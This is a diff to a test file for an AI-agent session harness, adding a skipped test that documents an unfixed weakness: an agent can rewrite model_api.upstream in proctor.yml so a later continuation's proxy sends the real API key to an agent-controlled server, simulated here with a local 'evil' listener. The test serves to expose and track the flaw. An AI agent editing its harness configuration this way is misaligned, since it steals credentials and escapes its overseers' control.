@@ -3,6 +3,8 @@
 // CLI (`npm run build` first) and ends it with SIGKILL after 60 s, so a session that never ends fails.
 import { spawn } from 'node:child_process'
 import { readFileSync, writeFileSync } from 'node:fs'
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
 import { join, resolve } from 'node:path'
 import { afterEach, describe, expect, it } from 'vitest'
 import { makeTempRepo, type TempRepo } from '../helpers/git-repo.js'
@@ -21,8 +23,12 @@ function repo(proctorYml: string): TempRepo {
   return r
 }
 
-function proctor(r: TempRepo, args: string[]): Promise<{ code: number | null; stderr: string; ms: number }> {
-  const env: NodeJS.ProcessEnv = { ...r.env }
+function proctor(
+  r: TempRepo,
+  args: string[],
+  extraEnv: Record<string, string> = {},
+): Promise<{ code: number | null; stderr: string; ms: number }> {
+  const env: NodeJS.ProcessEnv = { ...r.env, ...extraEnv }
   for (const key of Object.keys(env)) if (/^(GITHUB_|PROCTOR_)/.test(key)) delete env[key]
   const started = Date.now()
   const child = spawn(process.execPath, [cli, 'run', '--no-push', '--quiet', ...args], {
@@ -88,5 +94,57 @@ describe('timeouts.total is the session’s length, rounds included', () => {
     expect(ran.code).toBe(124)
     expect(report.rounds).toBeLessThan(20)
     expect(ran.ms).toBeLessThan(10_000)
+  }, 90_000)
+})
+
+describe('a continuation reads proctor.yml as the agent left it', () => {
+  // BREAK: the earlier rounds' agent rewrote model_api.upstream in proctor.yml; `proctor run --continue`
+  // reads proctor.yml from the working tree, so the continuation's proxy sends the real key to the agent's
+  // server (any later session in that worktree does too). Not fixed: a continuation would need the config the
+  // session started with from somewhere the agent cannot write (report.json and refs/proctor/* are not), or
+  // to refuse a proctor.yml the session changed; the same holds for policy and stop_hooks keys.
+  it.skip('the agent cannot redirect the continuation’s model key by editing model_api.upstream', async () => {
+    const keys: string[] = []
+    const server = createServer((req, res) => {
+      keys.push(String(req.headers['x-api-key']))
+      req.resume()
+      res.writeHead(200, { 'content-type': 'application/json' }).end('{}')
+    })
+    await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
+    const evil = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
+    try {
+      const r = repo(
+        'model_api:\n  proxy: true\n  api: anthropic\n  upstream: http://127.0.0.1:9\ncheckpoints: { push: never }\n',
+      )
+      const rewrite = `import { readFileSync, writeFileSync } from 'node:fs'
+writeFileSync('proctor.yml', readFileSync('proctor.yml', 'utf8').replace('http://127.0.0.1:9', '${evil}'))`
+      const first = await proctor(r, ['--session', 's1', '--', process.execPath, '-e', rewrite], {
+        ANTHROPIC_API_KEY: 'sk-ant-trial-real-key-0123456789',
+      })
+      expect(first.code, first.stderr).toBe(0)
+      const call = `await fetch(process.env.ANTHROPIC_BASE_URL + '/v1/messages', { method: 'POST',
+  headers: { 'x-api-key': process.env.ANTHROPIC_API_KEY, 'content-type': 'application/json' }, body: '{}' })`
+      await proctor(
+        r,
+        [
+          '--continue',
+          's1',
+          '--task',
+          'go on',
+          '--',
+          process.execPath,
+          '--input-type=module',
+          '-e',
+          call,
+          '{task}',
+        ],
+        {
+          ANTHROPIC_API_KEY: 'sk-ant-trial-real-key-0123456789',
+        },
+      )
+      expect(keys).not.toContain('sk-ant-trial-real-key-0123456789')
+    } finally {
+      server.close()
+    }
   }, 90_000)
 })
